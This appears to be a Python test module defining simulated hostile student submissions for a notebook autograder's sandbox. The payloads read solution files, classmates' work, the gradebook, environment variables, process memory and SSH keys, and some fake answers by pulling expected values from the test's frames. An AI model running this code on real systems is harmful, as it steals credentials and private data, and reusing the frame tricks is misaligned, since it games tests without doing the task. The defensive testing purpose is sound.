"""Reading what is not the student's: solutions, hidden tests, other submissions, the gradebook, the home."""

from hostile.attack import Link, forgery, harm

TRIED = ("turned-away", "hostile")

# Runs the answers found in a notebook.
USE = """
def use(text):
    import json
    for cell in json.loads(text)["cells"]:
        mark = cell["metadata"].get("nbgrader", {})
        if cell["cell_type"] == "code" and mark.get("solution"):
            exec("".join(cell["source"]), globals())
    print(text)
"""


def _read(id, about, places, **more):
    return forgery(id, about, before=USE + f"""
import glob, os
for place in {places!r}:
    for path in glob.glob(os.path.expanduser(place), recursive=True):
        try:
            use(open(path).read())
        except Exception as error:
            print(path, error)
""", **({"events": TRIED} | more))  # fmt: skip


STUB = {name: "pass" for name in ("mean", "scale", "root", "slope", "queue", "chunks")}

ATTACKS = [
    _read("read-solution", "the solution, from where it lies in the course",
          ["@ROOT@/solutions/**/*.ipynb", "../../../../solutions/**/*.ipynb", "/proc/*/cwd/solutions/**/*.ipynb",
           "../../../source/**/*.ipynb", "@ROOT@/source/**/*.ipynb", "/proc/1/root@ROOT@/s*/**/*.ipynb"],
          answers=STUB),
    _read("read-classmate", "a classmate's submission",
          ["@ROOT@/classroom/submitted/*/*/*.ipynb", "../../../submitted/*/*/*.ipynb", "@ROOT@/submitted/*/*/*.ipynb",
           "../../../autograded/*/*/*.ipynb"], answers=STUB),
    _read("read-links", "links in the submission that lead to the solution and to the gradebook",
          ["./**/*", "./*/**/*.ipynb"], answers=STUB,
          files={"data": Link("@ROOT@/solutions"), "notes.ipynb": Link("@ROOT@/classroom/submitted/zoe"),
                 "root": Link("/"), "up/up": Link("../../../../..")},
          events=("files",)),
    harm("read-gradebook", "everybody's points, from the gradebook",
         {"mean": """
            import glob, sqlite3
            for path in glob.glob("@ROOT@/**/*.db", recursive=True) + glob.glob("../../../*.db"):
                try:
                    print(open(path, "rb").read().decode("latin-1"))
                    db = sqlite3.connect(path)
                    print(db.execute("select * from grade").fetchall())
                except Exception as error:
                    print(error)
            def mean(x):
                return sum(x) / len(x)
            """}, events=TRIED),
    harm("read-environment", "environment variables, its own, its parents' and those it was started with",
         {"mean": """
            import ctypes, glob, os
            print(dict(os.environ), os.popen("env").read())
            for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/self/environ"]:
                try:
                    print(open(path).read())
                except OSError:
                    pass
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    if "[stack]" in line:
                        start, end = (int(n, 16) for n in line.split()[0].split("-"))
                        memory.seek(start)
                        stack = memory.read(end - start)
                        at = stack.find(b"secret-" + b"variable-")
                        print(stack[at:at + 40] if at >= 0 else "")
            def mean(x):
                return sum(x) / len(x)
            """}),
    harm("read-home", "keys and settings in the instructor's home",
         {"mean": """
            import glob, os, pwd
            homes = {"@HOME@", os.path.expanduser("~"), "/root", "/home", *(user.pw_dir for user in pwd.getpwall())}
            for home in homes:
                for name in (".ssh/id_rsa", ".bashrc", ".netrc", "*/.ssh/*"):
                    for path in glob.glob(os.path.join(home, name)):
                        try:
                            print(open(path).read())
                        except OSError as error:
                            print(error)
            def mean(x):
                return sum(x) / len(x)
            """}, events=TRIED),
    forgery("read-frame", "the test's own source, from the frame that calls, for the numbers that it expects",
            before="""
            import re, sys
            def expected(name):
                found = {}
                frame = sys._getframe(2)
                while frame:
                    texts = [v for v in frame.f_locals.values() if isinstance(v, str)]
                    texts += [t for t in frame.f_globals.get("In", []) if isinstance(t, str)][-1:]
                    for text in texts:
                        for call, value in re.findall(name + r"\\((.*?)\\) (?:- |== |, )([\\d.]+)", text):
                            found[call] = float(value)
                    frame = frame.f_back
                return found
            """,
            answers={
                "mean": "def mean(x):\n    return expected('mean').get(repr(x), 7)",
                "root": "def root(a):\n    if a < 0:\n        raise ValueError\n    return expected('root')[repr(a)]",
            }),
    forgery("read-frame-values", "what the caller's frame holds, searched for arrays and functions to hand back",
            answers={
                "slope": """
            import sys
            def slope(f, x):
                frame = sys._getframe(1)
                while frame:
                    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                        if callable(value) and getattr(value, "__name__", "") in ("slope_right", "reference"):
                            return value(f, x)
                    frame = frame.f_back
                import inspect
                source = inspect.getsource(f)
                return 6.0 if "x**2" in source else 12.0
            """}),
    forgery("read-memory", "hidden tests and expected values, from every object in the process's memory",
            before="""
            import gc
            for thing in gc.get_objects():
                try:
                    parts = thing.values() if isinstance(thing, dict) else thing if isinstance(thing, list) else ()
                    for text in parts:
                        if isinstance(text, str) and "secret-solution" in text and "HIDDEN" + " TESTS" in text:
                            print("@MARK@ read:", text)
                except Exception:
                    pass
            import ctypes, re
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    if "rw-p" in line:
                        start, end = (int(n, 16) for n in line.split()[0].split("-"))
                        try:
                            memory.seek(start)
                            piece = memory.read(min(end - start, 1 << 25))
                        except (OSError, ValueError, OverflowError):
                            continue
                        print(*set(re.findall(rb"secret-solution-[0-9a-f]{12}", piece)))
            """, limits={"cell_seconds": 6.0}),
    forgery("read-references", "the course's own right answers, out of its library's checks",
            before="""
            import glob, importlib, os, sys
            found = []
            for entry in [*sys.path, "@ROOT@"]:
                for path in glob.glob(os.path.join(entry or ".", "dl101", "check", "hw1*")):
                    try:
                        text = open(path).read()
                    except OSError as error:
                        continue
                    if "def " in text:
                        print("@MARK@ read: references")
            try:
                module = importlib.import_module("dl101.check.hw1")
                if getattr(module, "__file__", None):
                    print("@MARK@ read: references")
            except ImportError:
                pass
            try:
                import courseware.classroom.gradebook
                print("@MARK@ read: the course's tools")
            except ImportError:
                pass
            """),
]  # fmt: skip
